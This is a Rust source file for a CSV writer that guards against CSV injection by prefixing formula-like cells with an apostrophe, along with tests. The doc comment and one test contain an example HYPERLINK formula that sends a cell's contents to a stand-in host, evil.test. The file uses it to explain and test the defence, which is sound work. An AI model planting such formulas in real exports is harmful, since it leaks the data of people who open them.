//! The one CSV writer: RFC 4180 (CRLF line ends, fields quoted when they hold a comma, a
//! quote or a line break, quotes doubled), with cells that a spreadsheet would run as a
//! formula neutralised.
//!
//! Exports and records are opened in Excel, LibreOffice and Google Sheets, which treat a
//! cell starting with `=`, `+`, `-` or `@` (and, in some versions, a tab or carriage
//! return) as a formula: a name such as `=HYPERLINK("https://evil.test/?"&A1)` typed into a
//! sign-up form would run when the person, or the privacy team, opens their export (CSV
//! injection, CWE-1236). Such a cell is written with a leading `'`, which spreadsheets
//! take as "this is text" and do not show. A plain number (`-5`, `+3.25`, `-1e6`) is not a
//! formula and is written as it is, so numeric columns stay numeric. The JSON beside every
//! CSV keeps the exact values.

/// A CSV document being written.
#[derive(Debug, Default)]
pub struct Writer {
    out: String,
}

impl Writer {
    pub fn new() -> Self {
        Writer::default()
    }

    /// Appends one record (a line) of `cells`.
    pub fn row<I, S>(&mut self, cells: I)
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        for (i, cell) in cells.into_iter().enumerate() {
            if i > 0 {
                self.out.push(',');
            }
            self.cell(cell.as_ref());
        }
        self.out.push_str("\r\n");
    }

    fn cell(&mut self, text: &str) {
        let guard = if runs_as_formula(text) { "'" } else { "" };
        if text.contains([',', '"', '\n', '\r']) {
            self.out.push('"');
            self.out.push_str(guard);
            self.out.push_str(&text.replace('"', "\"\""));
            self.out.push('"');
        } else {
            self.out.push_str(guard);
            self.out.push_str(text);
        }
    }

    /// The document written so far.
    pub fn finish(self) -> String {
        self.out
    }
}

/// Whether a spreadsheet would take `text` for a formula.
pub fn runs_as_formula(text: &str) -> bool {
    match text.chars().next() {
        Some('=' | '@' | '\t' | '\r') => true,
        Some('+' | '-') => !is_plain_number(text),
        _ => false,
    }
}

/// `[+-]digits[.digits][e[+-]digits]`: a number a spreadsheet reads as a number.
fn is_plain_number(text: &str) -> bool {
    let b = text.as_bytes();
    let mut i = usize::from(matches!(b.first(), Some(b'+' | b'-')));
    let digits = |i: &mut usize| {
        let start = *i;
        while *i < b.len() && b[*i].is_ascii_digit() {
            *i += 1;
        }
        *i > start
    };
    if !digits(&mut i) {
        return false;
    }
    if i < b.len() && b[i] == b'.' {
        i += 1;
        if !digits(&mut i) {
            return false;
        }
    }
    if i < b.len() && matches!(b[i], b'e' | b'E') {
        i += 1;
        if i < b.len() && matches!(b[i], b'+' | b'-') {
            i += 1;
        }
        if !digits(&mut i) {
            return false;
        }
    }
    i == b.len()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn one(cells: &[&str]) -> String {
        let mut w = Writer::new();
        w.row(cells);
        w.finish()
    }

    #[test]
    fn quotes_what_needs_quoting() {
        assert_eq!(
            one(&["x,y", "say \"hi\"", "", "3"]),
            "\"x,y\",\"say \"\"hi\"\"\",,3\r\n"
        );
        assert_eq!(one(&["two\nlines"]), "\"two\nlines\"\r\n");
    }

    #[test]
    fn formulas_are_written_as_text() {
        assert_eq!(one(&["=1+1"]), "'=1+1\r\n");
        assert_eq!(one(&["@SUM(A1)"]), "'@SUM(A1)\r\n");
        assert_eq!(one(&["+44 20 7946 0000"]), "'+44 20 7946 0000\r\n");
        assert_eq!(one(&["-1+1"]), "'-1+1\r\n");
        assert_eq!(one(&["\tx"]), "'\tx\r\n");
        // Quoted and guarded: the guard goes inside the quotes.
        assert_eq!(
            one(&["=HYPERLINK(\"https://evil.test\",\"x\")"]),
            "\"'=HYPERLINK(\"\"https://evil.test\"\",\"\"x\"\")\"\r\n"
        );
    }

    #[test]
    fn numbers_stay_numbers() {
        for n in ["-5", "+3", "-3.25", "1e6", "-1E-6", "0", "42"] {
            assert_eq!(one(&[n]), format!("{n}\r\n"));
        }
        for not in ["-", "+", "-.5", "-5.", "-1e", "--1", "-1x"] {
            assert!(one(&[not]).starts_with('\''), "{not}");
        }
    }

    /// Reads one line written by [`Writer`] back (RFC 4180), for the property below.
    fn parse(line: &str) -> Vec<String> {
        let line = line.strip_suffix("\r\n").unwrap();
        let mut cells = vec![String::new()];
        let mut chars = line.chars().peekable();
        let mut quoted = false;
        while let Some(c) = chars.next() {
            match (quoted, c) {
                (false, '"') => quoted = true,
                (true, '"') if chars.peek() == Some(&'"') => {
                    chars.next();
                    cells.last_mut().unwrap().push('"');
                }
                (true, '"') => quoted = false,
                (false, ',') => cells.push(String::new()),
                (_, c) => cells.last_mut().unwrap().push(c),
            }
        }
        cells
    }

    proptest! {
        /// Every cell reads back as written, with a `'` before it exactly when it would run
        /// as a formula; no cell read back starts a formula.
        #[test]
        fn cells_read_back(cells in proptest::collection::vec("[=+@,\"\\-\r\na-z0-9. ]{0,8}", 1..6)) {
            let text = one(&cells.iter().map(String::as_str).collect::<Vec<_>>());
            let back = parse(&text);
            prop_assert_eq!(back.len(), cells.len());
            for (got, want) in back.iter().zip(&cells) {
                if runs_as_formula(want) {
                    prop_assert_eq!(got, &format!("'{want}"));
                } else {
                    prop_assert_eq!(got, want);
                }
                prop_assert!(!runs_as_formula(got));
            }
        }
    }
}
